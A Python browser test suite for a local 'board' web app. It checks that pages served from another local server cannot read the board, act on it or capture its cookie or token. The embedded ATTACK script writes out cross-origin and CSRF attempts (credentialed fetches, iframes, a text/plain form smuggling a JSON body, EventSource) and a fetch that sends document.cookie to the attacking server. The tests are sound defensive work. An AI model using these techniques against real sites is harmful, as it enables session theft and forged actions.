"""Another server on this machine, and its pages in the person's browser: they get nothing that opens the board."""

from collections.abc import Iterator
from contextlib import contextmanager
from email.message import Message
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any
from urllib.parse import parse_qsl, urlsplit

import httpx
from playwright.sync_api import Browser, expect

from tests.web.board import TOKEN, Running, items, markdown
from tests.web.browsing import is_live

ATTACK = """async ([board, live]) => {
  const got = [];
  document.body.replaceChildren();
  const late = (how) => new Promise((done) => setTimeout(() => done(`${how} never ended`), 12000));
  const attempts = [];
  const attempt = (how, what) =>
    attempts.push(Promise.race([what().catch(String), late(how)]).then((said) => got.push([how, said])));
  const send = { method: "POST", credentials: "include", body: '{"act": "tick", "target": "s1"}' };
  const acts = `${board}/sessions/s1/plans/main/acts`;
  const framed = (frame) => new Promise((done) => {
    frame.onload = () => done(String(frame.contentDocument?.body?.innerText));
    document.body.append(frame);
  });
  attempt("fetch", async () => (await fetch(`${board}/sessions/s1.json`, { credentials: "include" })).text());
  attempt("blind", async () => (await fetch(`${board}/sessions/s1`, { mode: "no-cors" })).text());
  attempt("moved", async () => (await fetch(`${board}/`, { mode: "no-cors", redirect: "follow" })).url);
  attempt("post", async () => (await fetch(acts, { ...send, mode: "no-cors" })).text());
  const headers = { "content-type": "application/json" };
  attempt("json", async () => (await fetch(acts, { ...send, headers })).text());
  const frame = Object.assign(document.createElement("iframe"), { src: `${board}/sessions/s1` });
  attempt("frame", () => framed(frame));
  attempt("form", async () => {
    const frame = Object.assign(document.createElement("iframe"), { name: "answers" });
    const form = Object.assign(document.createElement("form"), { method: "POST", action: acts, target: "answers" });
    form.enctype = "text/plain";
    const body = { name: '{"act": "tick", "target": "s1", "x": "', value: '"}' };
    form.append(Object.assign(document.createElement("input"), body));
    document.body.append(frame, form);
    form.submit();
    return new Promise((done) => (frame.onload = () => done(String(frame.contentDocument?.body?.innerText))));
  });
  attempt("stream", () => new Promise((done) => {
    const source = new EventSource(live, { withCredentials: true });
    source.onmessage = (message) => done(message.data);
    source.onerror = () => { source.close(); done(""); };
  }));
  attempt("window", async () => {
    const opened = window.open(`${board}/sessions/s1`);
    for (let tries = 0; tries < 500 && !opened.closed; tries += 1) await new Promise((next) => setTimeout(next, 20));
    const seen = opened.closed ? "closed" : String(opened.document.body.innerText);
    opened.close();
    return seen;
  });
  await Promise.all(attempts);
  await fetch("/own?" + new URLSearchParams({ cookie: document.cookie, referrer: document.referrer }));
  await fetch("/sessions/s1", { method: "POST", credentials: "include", body: JSON.stringify(got) });
  return got;
}"""


class OtherServer(ThreadingHTTPServer):
    """A server that keeps all that it receives."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.heads: list[Message] = []
        self.given: set[str] = set()

    @property
    def port(self) -> int:
        return int(self.server_address[1])


class _Handler(BaseHTTPRequestHandler):
    server: OtherServer

    def do_GET(self) -> None:
        body = self.rfile.read(int(self.headers.get("content-length", 0))).decode()
        fields = parse_qsl(urlsplit(self.path).query, keep_blank_values=True)
        self.server.heads.append(self.headers)
        self.server.given.update([self.path, body, *self.headers.values(), *(value for _, value in fields)])
        self.send_response(200)
        self.send_header("content-type", "text/html")
        self.end_headers()
        self.wfile.write(b"<!doctype html><title>another server</title><body>")

    do_POST = do_GET  # noqa: N815

    def log_message(self, *_: Any) -> None:
        pass


@contextmanager
def other_server() -> Iterator[OtherServer]:
    with OtherServer() as server:
        Thread(target=server.serve_forever, daemon=True).start()
        yield server
        server.shutdown()


def test_another_server_gets_no_cookie_and_its_pages_can_neither_read_nor_write(
    board: Running, browser: Browser
) -> None:
    board.write("s1", items("pending"))
    before = list(board.journal.read("s1"))
    with other_server() as other, browser.new_context() as context:
        own = context.new_page()
        own.goto(board.server.address)
        expect(own).to_have_url(f"{board.pages}/sessions")
        page = context.new_page()
        for name in ("127.0.0.1", "localhost", "other.localhost"):
            page.goto(f"http://{name}:{other.port}/")
            for base in (board.base, board.pages):  # even a page that knows the path can't use it
                got = dict(page.evaluate(ATTACK, [base, f"{base}/live/sessions/s1"]))
                assert len(got) == 9
                assert "step 1" not in str(got)
                assert "locked" not in str(got)  # not even that
                assert board.key.path not in got["moved"]
                assert got["window"] == "closed"
        page.goto(f"{board.base}/")
        assert "The board is locked" in page.content()
        assert board.key.path not in page.url
        assert len(other.heads) >= 3 * (1 + 2 * 2)
        assert [head["cookie"] for head in other.heads] == [None] * len(other.heads)
        _replay(board, {each for each in other.given if each.isascii() and each.isprintable() and each.strip()})
        own.reload()
        expect(own).to_have_url(f"{board.pages}/sessions")
        own.locator(".session-link").click()
        is_live(own)
    assert list(board.journal.read("s1")) == before


def test_a_link_in_a_plan_tells_its_server_nothing_of_the_board(board: Running, browser: Browser) -> None:
    with other_server() as other, browser.new_context() as context:
        board.write("s1", markdown(f"# Plan\n\nSee [there](http://127.0.0.1:{other.port}/there) first."))
        own = context.new_page()
        own.goto(f"{board.base}/sessions/s1?token={TOKEN}")
        with context.expect_page() as opened:
            own.get_by_role("link", name="there").click(modifiers=["ControlOrMeta"])
        page = opened.value
        page.wait_for_url("**/there")
        assert page.evaluate("[document.referrer, window.opener, history.length]") == ["", None, 1]
        own.get_by_role("link", name="there").click()
        given = str([[*head.items()] for head in other.heads])
        assert board.key.path[1:] not in given
        assert board.key.value not in given
        assert TOKEN not in given


def _replay(board: Running, given: set[str]) -> None:
    """Try everything that the other server received, as everything that opens the board."""
    with httpx.Client() as client:
        for each in given:
            for headers, fields in (
                ({"Cookie": each}, {}),
                ({"Cookie": f"{board.cookie}={each}"}, {}),
                ({"Authorization": f"Bearer {each}"}, {}),
                ({}, {"token": each}),
            ):
                for base in (board.base, board.pages):
                    answer = client.get(f"{base}/sessions.json", headers=headers, params=fields)
                    assert (answer.status_code, "set-cookie" in answer.headers) in ((401, False), (414, False)), each
